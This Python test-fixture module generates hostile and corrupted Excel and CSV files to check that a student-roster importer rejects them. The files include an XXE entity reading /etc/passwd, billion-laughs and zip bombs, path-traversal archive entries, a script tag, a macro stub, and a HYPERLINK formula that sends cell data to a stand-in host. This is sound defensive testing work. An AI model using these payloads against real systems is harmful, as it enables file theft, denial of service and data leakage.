"""The files of the drill: a good roster, a half-bad one, those that would hurt, and as many spoilt ones as one likes."""

import io
import random
import zipfile
from collections.abc import Iterator
from functools import cache
from typing import NamedTuple

from tests import factories
from tests.excel.hostile import FAR, LOCKED_BY_OFFICE, OLE, REFERRING, bitten, doubled, locked, lying, mutated, old_workbook, shared
from tests.excel.packages import repacked, with_rows, workbook

SHEET = "xl/worksheets/sheet1.xml"
HEADINGS = "学校标识码 姓名 性别 出生日期 身份证件号 学籍号 年级 班级 就读方式 现住址".split()
SCHOOL = "2199000001"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"看")'
LAUGHS = "<!DOCTYPE x [" + '<!ENTITY a "哈哈">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "]>"
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
ZEROS = bytes(201 << 20)


class File(NamedTuple):
    label: str
    name: str
    data: bytes
    says: str = ""  # a word of the refusal; "": it may also be read


def pupil(sequence: int, name: str, **more) -> list:
    number = factories.id_number("990101", "20170504", sequence)
    row = dict(zip(HEADINGS, (SCHOOL, name, "男" if sequence % 2 else "女", "20170504", number, "G" + number, "三年级", "2班", "走读", "扎多村3组"), strict=True))
    return [*(row | more).values()]


@cache
def roster(rows: int = 12) -> bytes:
    return workbook({"学生基本信息": [HEADINGS, *(pupil(n, f"学生{n}") for n in range(1, rows + 1))]})


def half_bad() -> bytes:
    """Two rows that can be saved, two that cannot."""
    good = [pupil(101, "张小明"), pupil(102, "@李䶮", 现住址=FORMULA)]
    bad = [pupil(103, ""), pupil(104, "王大山", 出生日期="某一天")]
    return workbook({"学生基本信息": [HEADINGS, *good, *bad]})


def hostile() -> Iterator[File]:
    """One of a kind; what is large is made when it is asked for, and small on the disk."""
    good = roster()
    yield File("a far cell", "1.xlsx", with_rows(FAR["corner"]), "列")
    yield File("a far cell whose row hides", "2.xlsx", with_rows(FAR["comment that hides"]), "损坏")
    yield File("a far cell by its row's number", "3.xlsx", with_rows(FAR["by row number"]), "展开后超过")
    yield File("a far cell in an old workbook", "4.xls", old_workbook([(0, 0), (65535, 255)]), "没能读完")
    yield File("a merged range over everything", "5.xlsx", merged(good))
    yield File("a bomb that says so", "6.xlsx", repacked(good, more={"xl/media/zeros.bin": ZEROS}), "展开后超过")
    yield File("a bomb that lies", "7.xlsx", lying(repacked(good, more={"xl/media/zeros.bin": ZEROS}), 10), "展开后超过")
    yield File("a bomb of one text that all cells show", "8.xlsx", shared(b"<sst><si><t>a</t></si><si><t>" + b"x" * 50_000 + b"</t></si></sst>", REFERRING), "展开后超过")
    yield File("a billion laughs", "9.xlsx", bitten(good, SHEET, LAUGHS), "实体")
    yield File("an entity from outside", "10.xlsx", bitten(good, "xl/workbook.xml", OUTSIDE), "实体")
    yield File("a link to another file", "11.xlsx", repacked(good, more={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}), "外部链接")
    yield File("a password of Office", "12.xlsx", LOCKED_BY_OFFICE, "密码")
    yield File("a password of zip", "13.xlsx", locked(good), "密码")
    yield File("cut in the middle", "14.xlsx", good[: len(good) // 2], "不完整")
    yield File("two sheets of one name", "15.xlsx", doubled(good), "不完整")
    yield File("six thousand parts", "16.xlsx", repacked(good, more={f"xl/{n}": b"" for n in range(6000)}), "展开后超过")
    yield File("parts that climb out of the folder", "../../17.xlsx", repacked(good, more={"../../../../tmp/climbed.txt": b"x", "/tmp/climbed.txt": b"x"}))
    yield File("half a million styles", "18.xlsx", styled(good))
    yield File("a web page", "19.xls", "<html><script>alert(1)</script><table><tr><td>姓名</td></tr></table></html>".encode(), "网页")
    yield File("macros", "20.xlsm", repacked(good, more={"xl/vbaProject.bin": OLE + b" Sub Auto_Open"}))
    yield File("noise that begins as an old workbook", "21.xls", OLE + random.Random(7).randbytes(6000), "不完整")
    yield File("elements a hundred thousand deep", "22.xlsx", with_rows("<row>" + "<c>" * 100_000))
    yield File("a text of thirty million letters", "23.csv", b"\xe5\xa7\x93\xe5\x90\x8d\r\n" + b"x" * 30_000_000)
    yield File("a text of seven million cells", "24.csv", b"," * 7_000_000, "列")
    yield File("another kind of zip", "25.xlsx", word(), "不是 Excel 工作簿")
    yield File("nothing", "26.xlsx", b"", "是空的")


def merged(data: bytes) -> bytes:
    ranges = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return repacked(data, lambda name, part: part.replace(b"</sheetData>", b"</sheetData>" + ranges) if name == SHEET else part)


def styled(data: bytes) -> bytes:
    more = b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>' * 500_000
    return repacked(data, lambda name, part: part.replace(b"</cellXfs>", more + b"</cellXfs>") if name == "xl/styles.xml" else part)


def word() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")
    return target.getvalue()


def spoilt(chance: random.Random) -> Iterator[File]:
    """Without end: bytes of the file or of one of its parts changed, moved, doubled, lost; parts left out; texts in odd encodings."""
    good = roster()
    parts = zipfile.ZipFile(io.BytesIO(good)).namelist()
    old = old_workbook([(row, column) for row in range(20) for column in range(5)])
    text = "\r\n".join(",".join(map(str, row)) for row in [HEADINGS, *(pupil(n, f"学生{n}") for n in range(1, 6))])
    number = 0
    while number := number + 1:
        part = chance.choice([*parts, *[SHEET] * 6])
        match chance.randrange(10):
            case 0 | 1:
                yield File("bytes", f"{number}.xlsx", mutated(good, chance))
            case 2:
                yield File("old", f"{number}.xls", mutated(old, chance))
            case 3:
                yield File("text", f"{number}.csv", mutated(text.encode(chance.choice(("utf-8", "gb18030", "utf-16"))), chance))
            case 4:
                yield File("cut", f"{number}.xlsx", good[: chance.randrange(len(good))])
            case 5:
                yield File("left out", f"{number}.xlsx", repacked(good, lambda name, data, part=part: None if name == part else data))
            case _:
                yield File("part", f"{number}.xlsx", repacked(good, lambda name, data, part=part: mutated(data, chance) if name == part else data))
